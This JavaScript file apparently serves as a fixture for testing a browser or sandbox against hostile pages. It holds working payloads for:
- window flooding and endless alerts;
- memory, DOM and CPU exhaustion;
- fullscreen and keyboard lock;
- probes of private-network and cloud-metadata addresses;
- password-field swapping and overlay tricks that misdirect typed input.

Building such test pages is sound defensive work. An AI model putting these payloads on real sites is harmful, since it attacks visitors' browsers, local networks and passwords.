// What pages that mean harm do on opening. Nothing here has a bound on purpose, save where the bound is the attack.
"use strict";

const PRIVATE = ["169.254.169.254", "10.0.0.1", "127.0.0.1:22", "[::1]:9", "192.168.0.1", "localhost:9"];

const place = document.getElementById("fight");
const plain = document.getElementById("plain");
const secret = document.getElementById("secret");

const openMany = () => {
  for (let count = 0; count < 500; count += 1) window.open(`/fight?window=${count}`, "_blank", "width=200,height=200");
};

const fill = () => {
  const kept = [];
  const more = () => {
    kept.push(new Uint8Array(64 * 1024 * 1024).fill(kept.length % 256));
    setTimeout(more);
  };
  more();
};

const grow = () => {
  let deepest = place;
  for (let depth = 0; depth < 20000; depth += 1) deepest = deepest.appendChild(document.createElement("div"));
  const wide = () => {
    const many = document.createDocumentFragment();
    for (let count = 0; count < 20000; count += 1) many.append(document.createElement("input"));
    place.append(many);
    setTimeout(wide);
  };
  wide();
};

const connect = () => {
  for (const host of PRIVATE) {
    fetch(`http://${host}/`, { mode: "no-cors" }).catch(() => {});
    new WebSocket(`ws://${host}/`).onerror = () => {};
    new EventSource(`http://${host}/`).onerror = () => {};
    new Image().src = `http://${host}/picture`;
    navigator.sendBeacon(`http://${host}/beacon`, "kept");
  }
  new RTCPeerConnection({ iceServers: [{ urls: "stun:169.254.169.254:3478" }] })
    .createDataChannel("out")
    .addEventListener("open", () => {});
};

// After three letters the secret field stands where the plain one stood, with the focus, and the other way round.
const swap = () => {
  const change = (event) => {
    if (event.target.value.length % 3 !== 0) return;
    for (const field of [plain, secret]) {
      field.type = field.type === "password" ? "text" : "password";
      const other = field.cloneNode(false);
      other.value = field.value;
      other.addEventListener("input", change);
      field.replaceWith(other);
      if (field === event.target) other.focus();
    }
  };
  for (const field of [plain, secret]) field.addEventListener("input", change);
};

const run = () => {
  plain.addEventListener("keydown", () => secret.focus());
  secret.addEventListener("keydown", () => plain.focus());
  setInterval(() => (document.activeElement === plain ? secret : plain).focus(), 50);
};

// The plain field is drawn where the secret one is; what is typed goes to the secret one.
const cover = () => {
  const lay = () => {
    const box = secret.getBoundingClientRect();
    Object.assign(plain.style, { position: "fixed", left: `${box.left}px`, top: `${box.top}px`, zIndex: 2 });
    plain.style.pointerEvents = "none";
    plain.value = secret.value;
    requestAnimationFrame(lay);
  };
  lay();
};

const fullscreen = () => {
  const take = () => {
    document.documentElement.requestFullscreen().catch(() => {});
    document.body.requestPointerLock();
    navigator.keyboard?.lock?.().catch(() => {});
  };
  document.addEventListener("click", take);
  document.addEventListener("keydown", take);
  take();
};

const fights = {
  dialogs: () => {
    for (let count = 0; ; count += 1) window.alert(`${count}`);
  },
  fullscreen,
  windows: () => {
    openMany();
    document.addEventListener("click", openMany);
  },
  dom: grow,
  memory: fill,
  hang: () => {
    for (;;);
  },
  worker: () => navigator.serviceWorker.register("/fight/worker.js", { scope: "/fight/" }),
  links: () => {
    for (const link of place.querySelectorAll("a")) link.click();
  },
  connect,
  swap,
  focus: run,
  cover,
};

window.addEventListener("load", () => fights[place.dataset.fight]());
